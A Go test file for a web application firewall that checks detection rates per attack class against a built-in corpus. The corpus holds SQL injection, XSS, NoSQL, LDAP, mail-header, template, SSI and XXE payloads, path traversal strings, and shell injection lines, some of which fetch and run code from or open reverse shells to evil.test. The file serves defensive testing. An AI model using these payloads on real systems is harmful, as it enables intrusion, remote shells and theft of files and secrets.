package waf

import (
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// TestAttackClasses measures detection per attack class at the shipped defaults
// (paranoia level 1, threshold 5), in process, on a corpus of its own: payloads
// written from each class's grammar and the evasions the literature lists for it,
// each placed where applications read it (query, form, JSON, custom header, cookie,
// path, XML). It was written apart from the eval's attack corpus (eval/testdata), as a
// second measurement of what sidewall's class rules catch, and fails when a class's
// share falls below 90%. -v lists the samples that pass.
func TestAttackClasses(t *testing.T) {
	byClass := make(map[string][2]int) // detected, total
	var passed []string
	e := pl1.get(t)
	for _, a := range attackCorpus() {
		v := e.Inspect(a.req)
		n := byClass[a.class]
		n[1]++
		if v.Interrupted {
			n[0]++
		} else {
			passed = append(passed, fmt.Sprintf("%s %s: %q", a.class, a.place, a.payload))
		}
		byClass[a.class] = n
	}
	var b strings.Builder
	for _, c := range slices.Sorted(func(yield func(string) bool) {
		for c := range byClass {
			if !yield(c) {
				return
			}
		}
	}) {
		n := byClass[c]
		fmt.Fprintf(&b, "%-10s %3d of %3d (%5.1f%%)\n", c, n[0], n[1], 100*float64(n[0])/float64(n[1]))
		if n[1] < 50 {
			t.Errorf("%s: %d samples; want at least 50", c, n[1])
		}
		if 10*n[0] < 9*n[1] {
			t.Errorf("%s: %d of %d detected; want at least 90%%", c, n[0], n[1])
		}
	}
	t.Logf("detected by class:\n%s", b.String())
	for _, p := range passed {
		t.Logf("passed: %s", p)
	}
}

type attackSample struct {
	class, place, payload string
	req                   *Request
}

// attackPlaces puts a payload where an application reads it.
var attackPlaces = map[string]func(p string) *Request{
	"query": func(p string) *Request { return get("/search?lang=en&q=" + url.QueryEscape(p)) },
	"form": func(p string) *Request {
		return post("/account/profile", formType, "name=Alex&bio="+url.QueryEscape(p))
	},
	"json":   func(p string) *Request { return post("/api/v2/items", "application/json", jsonString("title", p)) },
	"header": func(p string) *Request { return withHeader(get("/dashboard"), "X-Client-Ref", p) },
	"cookie": func(p string) *Request {
		return withHeader(get("/account"), "Cookie", "sid=5b2f0c9e1d; prefs="+url.PathEscape(p))
	},
	"path": func(p string) *Request { return get("/files/" + url.PathEscape(p)) },
}

func jsonString(k, v string) string {
	b, _ := json.Marshal(map[string]string{k: v})
	return string(b)
}

// samples places each payload in each of the places named.
func samples(class string, payloads []string, places ...string) []attackSample {
	var out []attackSample
	for i, p := range payloads {
		// Each payload in two places, taken in turn, so that every place gets its share.
		for _, place := range []string{places[i%len(places)], places[(i+1)%len(places)]} {
			out = append(out, attackSample{class: class, place: place, payload: p, req: attackPlaces[place](p)})
		}
	}
	return out
}

func attackCorpus() []attackSample {
	var out []attackSample
	out = append(out, samples("sqli", []string{
		"' OR 1=1-- -", "admin' --", "1' AND SLEEP(5)#", "1) UNION SELECT username, password FROM users--",
		"1; DROP TABLE orders--", "' UNION ALL SELECT NULL,NULL,@@version-- -", "1 AND (SELECT 1 FROM (SELECT SLEEP(3))x)",
		"' AND extractvalue(rand(),concat(0x3a,version()))-- ", "1' AND 1=CONVERT(int,@@version)--",
		"'; EXEC xp_cmdshell('whoami')--", "1 OR pg_sleep(5)--", "' OR 'a'='a", `" OR ""="`, "1' ORDER BY 10-- -",
		"-1 UNION SELECT 1,2,3--", "' AND (SELECT substring(password,1,1) FROM users LIMIT 1)='a'--",
		"1 WAITFOR DELAY '0:0:5'--", "admin'/**/OR/**/'1'='1", "1'||(SELECT version())||'", "' oR eXiStS(SeLeCt 1 FrOm dual)--",
		"1'\tUNION\tSELECT\tpassword\tFROM\tusers--", "1 /*!50000UNION*/ /*!50000SELECT*/ user()--", "')) OR 1=1--", "1' AND '1'='1",
		"' || (SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)--",
	}, "query", "form", "json", "header", "cookie", "path")...)
	out = append(out, samples("xss", []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=confirm(1)>", `"><iframe src=javascript:alert(1)>`,
		"<body onload=prompt(1)>", "javascript:alert(document.domain)", "<details open ontoggle=alert(1)>", "'-alert(1)-'",
		`";alert(1)//`, "alert.call(null,document.cookie)", "prompt.apply(window,[1])", "[document.cookie].map(alert)",
		"window['con'+'firm'](1)", "setTimeout.call(null,'alert(1)')", "eval.call(null,atob('YWxlcnQoMSk='))", "top[atob('YWxlcnQ=')](1)",
		`<a href="jav&#x09;ascript:alert(1)">x</a>`, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
		"{{constructor.constructor('alert(1)')()}}", "<input autofocus onfocus=alert(1)>", "<ScRiPt>confirm`1`</ScRiPt>",
		"alert?.(document.domain)", "self['pro'+'mpt'](1)", "[1].find(confirm)", "<video><source onerror=alert(1)>",
	}, "query", "form", "json", "header", "cookie")...)
	out = append(out, samples("nosql", []string{
		`{"$ne": null}`, `{"$gt": ""}`, `{"$regex": "^adm"}`, `{"$where": "sleep(100) || true"}`, `{"$in": ["admin", "root"]}`,
		`{"$nin": []}`, `{"$exists": true}`, `{"$or": [{"a": 1}, {"b": 2}]}`, `{"$expr": {"$eq": [1, 1]}}`, `{ "\u0024ne" : 1 }`,
		`'; return '' == '`, `" || "1"=="1`, `';while(true){};'`, `' && this.password.match(/.*/)//`, `'; sleep(5000); var x='`,
		`"; return db.users.find(); var y="`, `{$ne: 1}`, `{'$gt': ''}`, `{"$function": {"body": "function(){return 1}", "args": [], "lang": "js"}}`,
		`{"a": {"$elemMatch": {"$gt": 1}}}`, `' || 1==1//`, `{"$jsonSchema": {}}`, `{"$size": 0}`, `{"$not": {"$eq": 1}}`, `{"$nor": []}`,
	}, "json", "form", "query", "cookie", "header")...)
	out = append(out, nosqlKeys()...)
	out = append(out, samples("ldap", []string{
		"*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "x)(|(password=*))", "*))", "admin)(!(objectClass=void))",
		"*(|(objectclass=*))", "uid=*)(|(uid=*", "*)(&(cn=*)(userPassword=*)", "admin*)((|userpassword=*)", "*()|&'", "jdoe)(|(mail=*)",
		"*)(&(objectClass=user)(cn=*", "x)(cn>=a", "admin)(|)", "*)(sAMAccountName=*", "bob)(!(|(memberOf=*)))", "*)((|(uid=*",
		"nobody)(|(uid=admin)(uid=root)", "a*)(description=*", "*)(mail=*@*", "x)(2.5.4.3=*", "*)(|(telephoneNumber=*))", "admin))(|(a=b",
		"x)(uid;binary=*",
	}, "form", "query", "json", "header", "cookie")...)
	out = append(out, samples("mail", []string{
		"x@example.com\r\nBcc: y@evil.test", "name\nCc: a@evil.test", "subject\r\nContent-Type: text/html",
		"a@b.c%0ABcc:z@evil.test", "me@x.y\r\nTo: victim@x.y", "x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=z",
		"a@b.c>\r\nRCPT TO:<z@evil.test>", "hi\r\nMAIL FROM:<x@evil.test>", "x@y.z\r\nDATA\r\nhello\r\n.\r\nQUIT",
		"Hello\nReply-To: attacker@evil.test", "a@b.c\r\nSender: boss@corp.test", "x\nReturn-Path: <bounce@evil.test>",
		"x@y.z%0d%0aBcc%3aall@evil.test", "nick\r\nX-Priority: 1", "me@example.org\nSubject: You won", "user@x.y\r\nbcc: list@evil.test",
		"a@b.c\nCC: c@evil.test", "x@y.z\r\nContent-Transfer-Encoding: base64", "ann@x.y\nTo: all@corp.test\nSubject: hi",
		"john@x.y\r\nErrors-To: e@evil.test", "a@b.c\r\nrcpt to:<d@evil.test>", "q@x.y\nIn-Reply-To: <1@x.y>",
		"user@example.com\rBcc: r@evil.test", "pat@x.y\r\nMessage-ID: <x@evil.test>", "z@x.y\nDisposition-Notification-To: n@evil.test",
	}, "form", "query", "json", "cookie")...)
	out = append(out, samples("ssti", []string{
		"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[2].__subclasses__()}}",
		"{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
		`<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }`, "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
		"{{_self.env.registerUndefinedFilterCallback('exec')}}", "<%= system('id') %>", "#{`id`}", "{{range.constructor('return process')()}}",
		"@(1+2)", "${{7*7}}", "{{=7*7}}", "*{T(java.lang.Runtime).getRuntime()}", "[[${7*7}]]", "{php}echo `id`;{/php}",
		"{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{lipsum.__globals__['os'].popen('id').read()}}", `${{<%[%'"}}%\.`,
		"{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}", "${7*'7'}",
	}, "query", "form", "json", "header", "cookie")...)
	out = append(out, samples("ssi", []string{
		`<!--#exec cmd="ls" -->`, `<!--#include file="/etc/passwd" -->`, `<!--#echo var="DOCUMENT_ROOT" -->`, "<!--#printenv -->",
		`<!--#config timefmt="%A" -->`, `<!-- #exec cmd="id" -->`, `<!--#set var="a" value="b" -->`, `<!--#fsize file="x"-->`,
		`<esi:include src="http://evil.test/x"/>`, "<esi:vars>$(HTTP_COOKIE)</esi:vars>", `<!--esi <esi:include src="x"/> -->`,
		`<!--#EXEC CMD="whoami"-->`, `<!--#include virtual="/cgi-bin/x.cgi?a=$(id)" -->`, `&lt;!--#exec cmd="id" --&gt;`,
		`<!--#flastmod file="index.html" -->`, `<!--#if expr="$a = b" --><!--#endif -->`, `<!--# exec cmd="uname" -->`,
		`<esi:inline name="x" fetchable="yes">y</esi:inline>`, `<esi:assign name="v" value="$(QUERY_STRING)"/>`,
		`<esi:choose><esi:when test="1">x</esi:when></esi:choose>`, `<!--#exec cgi="/cgi-bin/a.cgi"-->`, `<!--#echo var="REMOTE_ADDR"-->`,
		`<!--#include file="../../conf/app.ini"-->`, `<!--#config errmsg="x"-->`, `<esi:debug/>`,
	}, "query", "form", "json", "header", "cookie")...)
	out = append(out, xxeSamples()...)
	out = append(out, samples("traversal", []string{
		"..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc/passwd", "..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd",
		"%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "....//....//etc/passwd", `..\..\windows\win.ini`, "..%5c..%5cwindows%5cwin.ini",
		"%u002e%u002e/%u002e%u002e/etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "..;/..;/WEB-INF/web.xml", "file:///etc/passwd",
		"../../../../etc/passwd", "..././..././etc/shadow", `....\\....\\windows\win.ini`, `C:\boot.ini`, "%252e%252e%252fetc%252fpasswd",
		"/var/www/../../etc/passwd", "..%2F..%2F..%2Fproc%2Fself%2Fenviron", "%%32%65%%32%65/%%32%65%%32%65/etc/hosts",
		"\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc/passwd", "../../../WEB-INF/web.xml", "..\\..\\..\\inetpub\\wwwroot\\web.config",
		"/proc/self/cmdline", ".%2e/.%2e/etc/passwd",
	}, "query", "form", "json", "header", "cookie", "path")...)
	out = append(out, samples("shell", []string{
		"; id", "| whoami", "&& cat /etc/passwd", "`id`", "$(whoami)", "; uname -a", "|| ping -c 3 127.0.0.1", "x\nid",
		"; curl http://evil.test/s | sh", "; wget -qO- evil.test|bash", "& net user", `| type c:\windows\win.ini`,
		"; nc -e /bin/sh evil.test 4444", "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", `; python3 -c 'import os;os.system("id")'`,
		"; c'a't /e't'c/pa'ss'wd", "; /???/?at /???/p?sswd", "; cat$IFS/etc/passwd", "; {ls,-la,/}", `; $'\x77\x68\x6f\x61\x6d\x69'`,
		`; w\h\o\a\m\i`, "; who$()ami", `$(printf '\151\144')`, "; echo aWQ= | base64 -d | sh", "| powershell -c Get-Process",
		"& certutil -urlcache -f http://evil.test/x x.exe", "; sleep 10", "; ls -la /", "`cat /etc/passwd`", "$(cat /etc/passwd)",
	}, "query", "form", "json", "header", "cookie")...)
	return out
}

// nosqlKeys are operators in bracket syntax, as query strings and forms carry them.
func nosqlKeys() []attackSample {
	var out []attackSample
	for _, q := range []string{
		"user=admin&pass[$ne]=x", "user[$regex]=.*&pass[$ne]=", "id[$nin][]=1", "age[$gt]=0", "name[$exists]=true", "q[$where]=1",
		"pass[%24ne]=1", "u[$in][]=admin&u[$in][]=root", "x[$or][0][a]=1", "p[ $ne ]=1",
	} {
		out = append(out, attackSample{class: "nosql", place: "query", payload: q, req: get("/login?" + q)})
		out = append(out, attackSample{class: "nosql", place: "form", payload: q, req: post("/login", formType, q)})
	}
	return out
}

// xxeSamples are XML documents: bodies, uploads, SOAP messages, XML in fields.
func xxeSamples() []attackSample {
	docs := []string{
		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.test/x">]><r>&x;</r>`,
		`<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">]><r>&x;</r>`,
		`<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>`,
		`<!DOCTYPE r [<!ENTITY x SYSTEM "jar:http://evil.test/a.zip!/x">]><r>&x;</r>`,
		`<!DOCTYPE foo [ <!ENTITY % xxe SYSTEM "http://evil.test/x.dtd"> %xxe; ]><foo/>`,
		`<!DOCTYPE r PUBLIC "-//X//Y" "http://evil.test/x.dtd"><r/>`,
		`<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>`,
		`<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; x SYSTEM 'http://evil.test/?%f;'>">%e;%x;]><d/>`,
		`<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></r>`,
		`<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>`,
		`<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><foo>&xxe;</foo>`,
		`<!DOCTYPE r [<!ENTITY x SYSTEM "netdoc:///etc/passwd">]><r>&x;</r>`,
		`<!DOCTYPE r [<!ENTITY x SYSTEM "gopher://127.0.0.1:6379/_INFO">]><r>&x;</r>`,
		`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///proc/self/environ">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
		`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://169.254.169.254/"/></x></soap:Body></soap:Envelope>`,
		`<!DOCTYPE e [<!ENTITY a "b">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><a>&a;</a></soap:Body></soap:Envelope>`,
	}
	var out []attackSample
	for i, d := range docs {
		out = append(out,
			attackSample{class: "xxe", place: "xml", payload: d, req: post("/api/import", "application/xml", d)},
			attackSample{class: "xxe", place: "form", payload: d, req: post("/import", formType, "xml="+url.QueryEscape(d))})
		if i%2 == 0 {
			body := "--b0\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n" + d + "\r\n--b0--\r\n"
			out = append(out, attackSample{class: "xxe", place: "upload", payload: d, req: post("/upload", "multipart/form-data; boundary=b0", body)})
		} else {
			out = append(out, attackSample{class: "xxe", place: "json", payload: d, req: post("/api/v2/import", "application/json", jsonString("xml", d))})
		}
	}
	return out
}
